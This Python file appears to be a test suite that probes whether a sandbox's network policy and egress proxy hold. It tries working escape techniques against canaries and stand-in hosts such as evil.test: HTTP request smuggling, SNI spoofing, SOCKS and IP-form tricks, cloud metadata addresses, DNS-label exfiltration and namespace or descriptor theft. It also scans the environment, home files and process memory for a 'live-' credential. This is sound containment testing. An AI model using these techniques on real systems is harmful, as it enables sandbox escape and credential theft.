# Ways out of a network policy. A way returns what it has reached, or nothing. L, which
# the test sets, says where its canaries are.
import array, concurrent.futures, ctypes, fcntl, os, re, select, signal, socket, ssl, struct, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
LAND = L['mode'] == 'landlock'
ways = {}
def way(f): ways[f.__name__] = f; return f
def ways_of(prefix, items, f):
    for i, item in enumerate(items): ways['%s_%d' % (prefix, i)] = lambda item=item: f(item)
def px():
    s = socket.socket(); s.settimeout(3); s.connect(('127.0.0.1', 3128)); return s
def rest(s):
    b = b''
    try:
        while d := s.recv(65536): b += d
    except OSError: pass
    return b
def ask(raw):
    with px() as s: s.sendall(raw if isinstance(raw, bytes) else raw.encode('latin1')); return rest(s)
def get(url, host=None, extra=''): return ask(f'GET {url} HTTP/1.1\r\nHost: {host or url.split("/")[2]}\r\n{extra}Connection: close\r\n\r\n')
def con(to):
    s = px(); s.sendall(f'CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n'.encode()); b = b''
    while b'\r\n\r\n' not in b:
        d = s.recv(4096)
        if not d: break
        b += d
    return s, b
def inside(to, sni, req, alpn=None):
    s, b = con(to)
    if b' 200 ' not in b[:20]: return b''
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    if alpn: c.set_alpn_protocols(alpn)
    with c.wrap_socket(s, server_hostname=sni) as t: t.sendall(req if isinstance(req, bytes) else req.encode('latin1')); return rest(t)
def key(req): return inside('example.com:443', 'example.com', req)
def hello(b): return b[:200] if b'HELLO' in b else None # a server's answer
def evil(b): return b[:200] if b'HELLO evil' in b or b'established\r\n\r\nHELLO' in b else None
def leak(b): return b[:200] if b'live-' in b.lower() else None
def sin(port, ip='127.0.0.1', family=socket.AF_INET): return struct.pack('<H', family) + struct.pack('>H', port) + socket.inet_aton(ip) + bytes(8)
def canary(s): # whether a socket is one to the host's canary
    try: s.sendall(b'x'); return b'CANARY' in s.recv(100)
    except OSError: return False

# Past the gate.
ways_of('tcp', [('127.0.0.1', socket.AF_INET), ('::1', socket.AF_INET6), ('::ffff:127.0.0.1', socket.AF_INET6), (L['own'], socket.AF_INET), ('0.0.0.0', socket.AF_INET), ('localhost', socket.AF_INET)],
    lambda a: canary(connected(*a)))
def connected(host, family):
    s = socket.socket(family); s.settimeout(2); s.connect((host, L['canary'])); return s
@way
def udp(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', L['udp']))
@way
def unix_path(): s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(L['unix']); return canary(s)
@way
def unix_abstract(): s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect('\0' + L['abstract']); return canary(s)
@way
def unix_from_pair(): a, b = socket.socketpair(); libc.connect(a.fileno(), sin(L['canary']), 16); a.settimeout(1); return canary(a)
@way
def raw_sockets(): return [socket.socket(socket.AF_INET, socket.SOCK_RAW, p) for p in (1, 6, 255)]
@way
def ping_socket(): s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.sendto(b'\x08' + bytes(7), ('93.184.216.34', 0)); s.settimeout(1); return s.recv(9)
@way
def families():
    got = []
    for family in range(3, 46):
        for kind in 1, 2, 3, 5:
            fd = libc.socket(family, kind, 0)
            if fd >= 0 and family not in (10, 16): got.append((family, kind))
            if fd >= 0: os.close(fd)
    return got
@way
def io_uring(): p = ctypes.create_string_buffer(240); n = libc.syscall(425, 4, p); return n >= 0 and n
@way
def unconnect_and_connect(): s = px(); libc.connect(s.fileno(), bytes(16), 16); libc.connect(s.fileno(), sin(L['canary']), 16); return canary(s)
@way
def fast_open(): s = socket.socket(); s.settimeout(1); s.sendto(b'x', 0x20000000, ('127.0.0.1', L['canary'])); return canary(s)
@way
def address_on_connected(): s = px(); s.sendmsg([b'x'], [], 0, ('127.0.0.1', L['canary'])); return b'CANARY' in rest(s)
@way
def changed_address():
    good, bad = sin(3128), sin(L['canary']); buf = ctypes.create_string_buffer(good, 16); stop = []
    def flip():
        while not stop: ctypes.memmove(buf, bad, 16); ctypes.memmove(buf, good, 16)
    threading.Thread(target=flip, daemon=True).start(); end = time.time() + 1; got = None
    while time.time() < end and not got:
        with socket.socket() as s:
            s.setblocking(False); libc.connect(s.fileno(), buf, 16)
            try: got = b'CANARY' in s.recv(100)
            except OSError: pass
    stop.append(1); return got
@way
def changed_descriptor():
    a, b = socket.socket(), socket.socket(); fd = os.dup(a.fileno()); stop = []
    def flip():
        while not stop: os.dup2(a.fileno(), fd); os.dup2(b.fileno(), fd)
    threading.Thread(target=flip, daemon=True).start(); end = time.time() + 0.5
    while time.time() < end: libc.connect(fd, sin(L['canary']), 16)
    stop.append(1)
@way
def options():
    s = socket.socket(); s.settimeout(1)
    for level, name, value in (0, 19, 1), (0, 15, 1), (1, 25, b'lo\0'), (1, 36, 1), (6, 19, 1), (6, 31, b'tls\0'), (6, 30, 1), (1, 26, bytes(16)), (1, 50, 3):
        try: s.setsockopt(level, name, value)
        except OSError: pass
    try: s.connect(('127.0.0.1', L['canary']))
    except OSError: pass
    return canary(s)
@way
def interfaces():
    for s in socket.socketpair() + (px(),):
        b = array.array('B', bytes(4096))
        try: out = fcntl.ioctl(s.fileno(), 0x8912, struct.pack('iL', 4096, b.buffer_info()[0]))
        except OSError: continue
        if socket.inet_aton(L['own']) in b.tobytes(): return 'the host\'s address'
@way
def listen(): # the host tries to come in while the program runs
    s = socket.socket(); s.bind(('0.0.0.0', L['listen'])); s.listen(); s.settimeout(1); s.accept(); return 'the host came'
@way
def inherited():
    for fd in range(3, 256):
        try:
            s = socket.socket(fileno=os.dup(fd))
            if s.family in (socket.AF_INET, socket.AF_INET6) and s.getsockname()[1] == L['canary']: return fd
        except OSError: pass
@way
def namespaces():
    for path in '/proc/1/ns/net', '/proc/%d/ns/net' % os.getppid(), '/proc/%d/ns/net' % L['pid']:
        try: fd = os.open(path, 0)
        except OSError: continue
        if libc.setns(fd, 0) == 0: return canary(connected('127.0.0.1', socket.AF_INET))
@way
def other_descriptors(): return [pid for pid in (1, os.getppid(), L['pid']) if libc.syscall(438, libc.syscall(434, pid, 0), 3, 0) >= 0]
def peer(s): b = ctypes.create_string_buffer(4); n = ctypes.c_int(4); r = libc.getsockopt(s.fileno(), 1, 77, b, ctypes.byref(n)); return struct.unpack('i', b.raw)[0] if r == 0 else -1
@way
def peer_pidfd(): fd = peer(px()); return fd >= 0 and 'the host\'s process'
@way
def peer_pidfd_files(): fd = peer(px()); return fd >= 0 and [n for n in range(3, 30) if libc.syscall(438, fd, n, 0) >= 0]
@way
def peer_pidfd_namespaces(): fd = peer(px()); return fd >= 0 and [n for n in (0x40000000, 0x10000000, 0x20000) if libc.setns(fd, n) == 0]
@way
def passed_descriptor(): # a descriptor given to the host is not taken, and harms nothing
    s = px()
    for i in range(100):
        try: socket.send_fds(s, [b'G'], [0, 1])
        except OSError: break
@way
def owner_of_signals(): # SIGIO of a socket's to the host
    s = px(); fcntl.fcntl(s, 10, signal.SIGKILL); fcntl.fcntl(s, fcntl.F_SETOWN, L['pid']); fcntl.fcntl(s, fcntl.F_SETFL, 0o20000); s.sendall(b'\xff'); rest(s)
@way
def own_listener(): # of seccomp
    f = struct.pack('HBBI', 6, 0, 0, 0x7ffc0000); b = ctypes.create_string_buffer(f)
    n = libc.syscall(317, 1, 8, struct.pack('HxxxxxxP', 1, ctypes.addressof(b))); return LAND and n >= 0 and 'a listener'
@way
def left_group(): # a child outside of its program's group
    r, w = os.pipe(); pid = os.fork()
    if pid == 0:
        try: libc.setsid(); libc.setpgid(0, 0); os.write(w, b'R' if canary(connected('127.0.0.1', socket.AF_INET)) else b'-')
        finally: os._exit(0)
    os.waitpid(pid, 0); os.set_blocking(r, False); return os.read(r, 1) == b'R'
@way
def killed_in_calls(): # processes that end while the host answers them
    for i in range(20):
        pid = os.fork()
        if pid == 0:
            for _ in range(4): threading.Thread(target=lambda: [socket.socket().connect_ex(('127.0.0.1', 3128)) for _ in range(50)], daemon=True).start()
            time.sleep(0.002 * i); os._exit(0)
        os.kill(pid, signal.SIGKILL) if i % 2 else None; os.waitpid(pid, 0)

# Hosts and addresses that no rule names.
ways_of('host', ['evil.test', 'xwild.test', 'a.wild.test.evil.test', 'plain.test.evil.test', 'xplain.test', 'plain-test', '*.wild.test', '.wild.test', 'a..wild.test', 'wild.test', 'plain.test%00.evil.test', 'pl\xe4in.test', '\xe2\x84\xaaey.test'],
    lambda h: hello(get(f'http://{h}/')) or hello(get(f'http://{h}:443/')) or con(h + ':443')[1].startswith(b'HTTP/1.1 200') and h)
FORMS = '127.0.0.1 2130706433 0x7f000001 127.1 0177.0.0.1 0x7f.1 017700000001 127.0.0.1. localhost localhost. 0 0.0.0.0 [::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [64:ff9b::7f00:1] [2002:7f00:1::] [::1%25lo] 127.0.0.1%00.plain.test plain.test@127.0.0.1 127.0.0.1#plain.test 127.0.0.1\\.plain.test 169.254.169.254 [fd00:ec2::254] 100.100.100.200 168.63.129.16 metadata.google.internal 0xa9fea9fe 2852039166'.split() + [L['own']]
ways_of('form', FORMS, lambda h: hello(get(f'http://{h}:{L["canary"]}/', 'plain.test') + get(f'http://{h}/', 'plain.test')) or con(f'{h}:{L["canary"]}')[1].startswith(b'HTTP/1.1 200') and h)
ways_of('private', 'meta priv six mapped nat64 cgn zero loop own'.split(), lambda h: hello(get(f'http://{h}.test/')) or con(f'{h}.test:443')[1].startswith(b'HTTP/1.1 200') or socks(3, f'{h}.test'.encode(), 443))
@way
def rebinding(): [get('http://rebind.test/') for _ in range(6)] + [con('rebind.test:443')[0].close() for _ in range(6)] # the test sees what is dialled
@way
def mixed(): get('http://both.test/')
ways_of('port', ['plain.test:22', 'plain.test:0', 'plain.test:65536', 'plain.test:-1', 'plain.test', 'plain.test:443:22', 'plain.test:http', f'plain.test:{L["canary"]}'], lambda h: con(h)[1].startswith(b'HTTP/1.1 200') and h)
def socks(typ, host, port, cmd=1):
    with px() as s:
        s.sendall(b'\5\1\0'); s.recv(2); s.sendall(bytes([5, cmd, 0, typ]) + (bytes([len(host)]) if typ == 3 else b'') + host + struct.pack('>H', port))
        return s.recv(10)[1:2] == b'\0' and host
ways_of('socks', [(3, b'evil.test'), (3, b'evil.test\0.plain.test'), (3, b'plain.test\0.evil.test'), (3, b'127.1'), (3, b''), (3, b'a' * 255), (3, b'plain.test\r\n'), (3, b'::1'), (1, b'\x7f\0\0\1'), (1, b'\xa9\xfe\xa9\xfe'), (4, bytes(15) + b'\1'), (4, bytes(10) + b'\xff\xff\x7f\0\0\1')],
    lambda a: socks(*a, 443) or socks(*a, L['canary']))
ways_of('socks_command', [2, 3, 0, 255], lambda c: socks(3, b'plain.test', 80, c))
@way
def socks4(): return evil(ask(b'\4\1\0\x50\0\0\0\1x\0evil.test\0')) or canary_answer(ask(b'\4\1' + struct.pack('>H', L['canary']) + b'\x7f\0\0\1x\0'))
def canary_answer(b): return b'CANARY' in b

# Names in TLS and HTTP.
PLAIN = 'GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n'
ways_of('sni', ['evil.test', 'plain.test', 'example.com', 'TUNNEL.EXAMPLE.COM.evil.test', None], lambda n: hello(inside('tunnel.example.com:443', n, PLAIN)))
def record(sni, ech, size=1):
    n = sni.encode(); e = struct.pack('>HHHBH', 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
    e += bytes.fromhex('002b0003020304000d000400020403000a00040002001d') + (bytes.fromhex('fe0d000400000100') if ech else b'')
    h = b'\3\3' + b'r' * 32 + b'\0\0\2\x13\1\1\0' + struct.pack('>H', len(e)) + e
    h = b'\1' + len(h).to_bytes(3, 'big') + h; return b'\x16\3\1' + struct.pack('>H', len(h)) + h
def sent_hello(sni, ech, pieces=False):
    s, _ = con('tunnel.example.com:443'); h = record(sni, ech)
    for i in range(len(h)) if pieces else (): s.send(h[i:i+1])
    if not pieces: s.sendall(h)
    b = s.recv(9); return b[:1] == b'\x16' and b
@way
def ech(): return sent_hello('tunnel.example.com', True)
@way
def hello_in_pieces(): return sent_hello('evil.test', False, True)
@way
def two_names(): h = record('tunnel.example.com', False); s, _ = con('tunnel.example.com:443'); s.sendall(h[:60] + b'evil.test' + h[60:]); return s.recv(9)[:1] == b'\x16'
ways_of('not_tls', [b'SSH-2.0-x\r\n', b'\1\2\3\4', b'\x16\3\1\xff\xff' + bytes(999), b'\x80\x2e\1\0\2'], lambda b: not_tls(b))
def not_tls(b): s, _ = con('tunnel.example.com:443'); s.sendall(b); s.shutdown(1); b = rest(s); return b[:1] not in (b'', b'\x15', b'H') and b
ways_of('host_in_tls', ['evil.test', 'example.com:8443', 'plain.test', 'example.com@evil.test', 'example.com\r\nHost: evil.test', 'evil.test\r\nX: example.com'], lambda h: hello(key(f'GET /v1/x HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n')))
ways_of('target', ['x:http://evil.test/y', 'https:evil.test/y', 'http://evil.test/y', 'x://evil.test'], lambda u: hello(inside('www.example.com:443', 'www.example.com', f'GET {u} HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n')))
ways_of('path', ['/v1/../admin', '/v1/%2e%2e/admin', '/v1/..%2fadmin', '/v1/./x', '//v1/x', '/v1//x', '/v1/..;/admin', '/v1\\..\\admin', '/V1/x', '/v2/x', '/v1', '/', '/v1/%00', '/v1/%252e%252e/x'], lambda p: hello(key(f'GET {p} HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n')))
ways_of('method', ['PUT', 'DELETE', 'TRACE', 'CONNECT', 'get', 'OPTIONS', 'PRI'], lambda m: hello(key(f'{m} /v1/x HTTP/1.1\r\nHost: example.com\r\nContent-Length: 0\r\nConnection: close\r\n\r\n')))
SMUGGLE = ['Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n', 'Content-Length: 0\r\nContent-Length: 44\r\n\r\n', 'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n', 'Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n', 'Content-Length : 44\r\n\r\n', 'Transfer-Encoding: chunked\r\n\r\n2;a\nxx\r\n0\r\n\r\n', ' X: y\r\n\r\n', 'Transfer-Encoding: chunked\r\nTrailer: Host\r\n\r\n0\r\nHost: evil.test\r\n\r\n', 'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n']
ways_of('smuggle', SMUGGLE, lambda m: evil(b''.join(ask(f'POST http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n{m}{i}') for i in ('GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n', PLAIN, 'CONNECT evil.test:443 HTTP/1.1\r\n\r\n' + PLAIN))))
@way
def proxy_in_proxy(): s, _ = con('plain.test:80'); s.sendall(b'GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n'); return evil(rest(s)) or con('127.0.0.1:3128')[1].startswith(b'HTTP/1.1 200')
@way
def pipelined_connect(): return evil(ask('CONNECT plain.test:80 HTTP/1.1\r\n\r\nCONNECT evil.test:80 HTTP/1.1\r\n\r\n' + PLAIN)) or evil(ask('GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'))
ways_of('upgrade', ['h2c', 'TLS/1.0', 'foo', 'websocket, h2c'], lambda u: (lambda b: b[:12] == b'HTTP/1.1 101' and b)(get('http://plain.test/upgrade', None, f'Upgrade: {u}\r\nConnection: Upgrade, close\r\nX: ')))
ODD = [b'GET HTTP://EVIL.test/ HTTP/1.1\r\nHost: plain.test', b'GET / HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test', b'GET http://plain.test/ HTTP/1.1\r\nHost: evil.test', b'GET http://evil.test/ HTTP/1.0', b'GET http://evil.test/',
    b'GET / HTTP/1.1\r\nHost: plain.test\r\n evil.test', b'GET http://plain.test/ HTTP/1.1\nHost: evil.test\n', b'GET http://plain.test\t@evil.test/ HTTP/1.1\r\nHost: plain.test', b'GET //evil.test/ HTTP/1.1\r\nHost: plain.test',
    b'GET http://plain.test:80:evil.test/ HTTP/1.1\r\nHost: plain.test', b'GET http://[plain.test]/ HTTP/1.1\r\nHost: evil.test', b'GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nX-Forwarded-Host: evil.test\r\nForwarded: host=evil.test', b'GET ftp://evil.test/ HTTP/1.1\r\nHost: evil.test',
    b'GET https://evil.test/ HTTP/1.1\r\nHost: evil.test', b'OPTIONS * HTTP/1.1\r\nHost: evil.test', b'GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\n\5\1\0\5\1\0\3\x09evil.test\0\x50', b'GET http://evil.test/upgrade HTTP/1.1\r\nHost: evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade', b'CONNECT plain.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test']
ways_of('odd', ODD, lambda b: evil(ask(b + b'\r\nConnection: close\r\n\r\n')))
def frame(kind, flags, stream, b): return len(b).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + b
def field(k, v): return b'\0' + bytes([len(k)]) + k + bytes([len(v)]) + v
def h2(*fields): return b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + frame(1, 5, 1, b''.join(field(*f) for f in fields)) + frame(7, 0, 0, bytes(8))
AT = [(b':method', b'GET'), (b':scheme', b'https'), (b':path', b'/v1/x')]
ways_of('h2', [AT + [(b':authority', b'evil.test')], AT + [(b':authority', b'example.com'), (b'host', b'evil.test')], AT + [(b'host', b'evil.test')], [(b':method', b'CONNECT'), (b':authority', b'evil.test:443')], [(b':method', b'CONNECT'), (b':protocol', b'websocket')] + AT[1:] + [(b':authority', b'example.com')],
    AT[:2] + [(b':path', b'https://evil.test/'), (b':authority', b'example.com')], AT[:2] + [(b':path', b'*'), (b':authority', b'example.com')], AT[:2] + [(b':path', b'/v1/../admin'), (b':authority', b'example.com')], AT + [(b':authority', b'example.com'), (b'transfer-encoding', b'chunked')]], lambda f: evil(inside('example.com:443', 'example.com', h2(*f), ['h2'])) or leak(inside('example.com:443', 'example.com', h2(*f), ['h2'])))
@way
def h2_in_the_clear(): return evil(ask(h2((b':method', b'GET'), (b':scheme', b'http'), (b':path', b'/'), (b':authority', b'evil.test'))))
@way
def tls_to_proxy():
    c = ssl._create_unverified_context(); c.check_hostname = False
    with c.wrap_socket(px(), server_hostname='evil.test') as t: t.sendall(PLAIN.encode()); return evil(rest(t))
@way
def netlink(): # an address and a route of the program's own
    s = socket.socket(16, socket.SOCK_RAW, 0); s.settimeout(2); s.sendall(struct.pack('=IHHII', 24, 20, 0x605, 1, 0) + struct.pack('=BBBBI', 2, 24, 0, 0, 1)); b = s.recv(99); return struct.unpack('=i', b[16:20])[0] == 0
@way
def connections_of_others(): # in files of the kernel
    for name in 'tcp', 'tcp6', 'unix', 'route', 'arp':
        try: text = open('/proc/net/' + name).read()
        except OSError: continue
        if re.search(':%04X [0-9A-F]+:0000 0A' % L['canary'], text) or L['unix'] in text: return name # a listener of the host
@way
def many_at_once():
    def burst():
        fds = [libc.socket(2, 1, 0) for _ in range(80)]; [libc.sendto(fd, b'x', 1, 0x4000, sin(L['canary']), 16) for fd in fds if fd >= 0]; [os.close(fd) for fd in fds if fd >= 0]
    pids = [os.fork() for _ in range(3)]
    if 0 in pids:
        try: burst()
        finally: os._exit(0)
    [os.waitpid(p, 0) for p in pids]
@way
def huge_head(): return hello(get('http://plain.test/', None, 'X: ' + 'y' * (1 << 20) + '\r\n'))
@way
def redirect(): out = subprocess.run(['curl', '-sSiL', '--location-trusted', '-m', '5', 'https://example.com/v1/redirect'], capture_output=True).stdout; return evil(out) or leak(out)
@way
def synthetic():
    got, a = b'', socket.gethostbyname('plain.test')
    for ip, host in (a, 'evil.test'), (a, 'both.test'), ('198.18.77.7', 'evil.test'):
        with socket.socket() as s: s.settimeout(2); s.connect((ip, 80)); s.sendall(f'GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'.encode()); got += rest(s)
    return hello(got)
ways_of('dns', ['c2VjcmV0.evil.test', 'x' * 60 + '.evil.test', 'plain.test.evil.test'], lambda n: socket.gethostbyname(n))
@way
def dns_messages():
    head = b'\1\2\1\0\0\1\0\0\0\0\0\0'; q = b'\4evil\4test\0'
    for m in head + q + b'\0\1\0\1', head + b'\xc0\x0c\0\1\0\1', head + b'\4evil\xc0\x0c\0\1\0\1', head + b'\x40' + q, head[:5] + b'\2' + head[6:] + q + b'\0\1\0\1' + b'\5plain\4test\0\0\1\0\1', head, head + b'\5plain\4test\0\0\xfc\0\1':
        with px() as s: s.sendall(struct.pack('>H', len(m)) + m); b = s.recv(999)
        if b[9:10] not in (b'', b'\0'): return m

# The credential.
ECHO = ['/v1/echo', '/v1/header', '/v1/chunks', '/v1/trailer', '/v1/base64', '/v1/status', '/v1/encoding', '/v1/malformed', '/v1/early']
ways_of('echo', ECHO, lambda p: leak(key(f'GET {p} HTTP/1.1\r\nHost: example.com\r\nRange: bytes=3-9\r\nAccept-Encoding: gzip\r\nTE: trailers\r\nConnection: close\r\n\r\n')))
@way
def without_tls(): return leak(get('http://example.com/v1/echo')) or hello(get('http://example.com:443/v1/x'))
@way
def websocket(): return leak(key('GET /v1/socket HTTP/1.1\r\nHost: example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n'))
@way
def own_header(): b = key('GET /v1/echo HTTP/1.1\r\nHost: example.com\r\nAuthorization: mine\r\nConnection: close, Authorization\r\n\r\n'); return b'mine' in b or b'***' not in b
@way
def reset_streams(): # 2,000 streams of HTTP/2 that end at once
    f = lambda kind, flags, stream, b: len(b).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + b
    head = b'\x82\x87\x84\x41\x0bexample.com'
    inside('example.com:443', 'example.com', b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + f(4, 0, 0, b'') + b''.join(f(1, 5, i, head) + f(3, 0, i, bytes(4)) for i in range(1, 4001, 2)) + f(7, 0, 0, bytes(8)), ['h2'])
@way
def in_reach(): # environment, files and memory
    needle = re.compile(rb'[l]ive-[0-9a-f]{16}'); got = [k for k, v in os.environb.items() if needle.search(v)]
    for root, _, files in os.walk(os.environ.get('HOME', '.')):
        got += [f for f in files if needle.search(open(os.path.join(root, f), 'rb').read(1 << 20))]
    for line in [] if LAND else open('/proc/self/maps'):
        a, z = [int(x, 16) for x in line.split()[0].split('-')]
        if line.split()[1][0] != 'r' or 'v' in line.strip()[-6:] or z - a > 64 << 20: continue
        try:
            with open('/proc/self/mem', 'rb') as m: m.seek(a); got += [line] if needle.search(m.read(z - a)) else []
        except (OSError, ValueError): pass
    return got

def run(name):
    try: r = ways[name]()
    except Exception as e: r = None if isinstance(e, OSError) else None if isinstance(e, (UnicodeError, ValueError)) else 'BROKEN %s: %s' % (type(e).__name__, e)
    return '%s %s' % (name, 'REACHED %r' % (r,) if r else 'held')
alone = ['killed_in_calls', 'left_group', 'changed_address', 'changed_descriptor', 'in_reach', 'inherited', 'families']
for name in alone: print(run(name), flush=True)
with concurrent.futures.ThreadPoolExecutor(32) as pool:
    for line in pool.map(run, [w for w in ways if w not in alone]): print(line, flush=True)
print('END', len(ways))
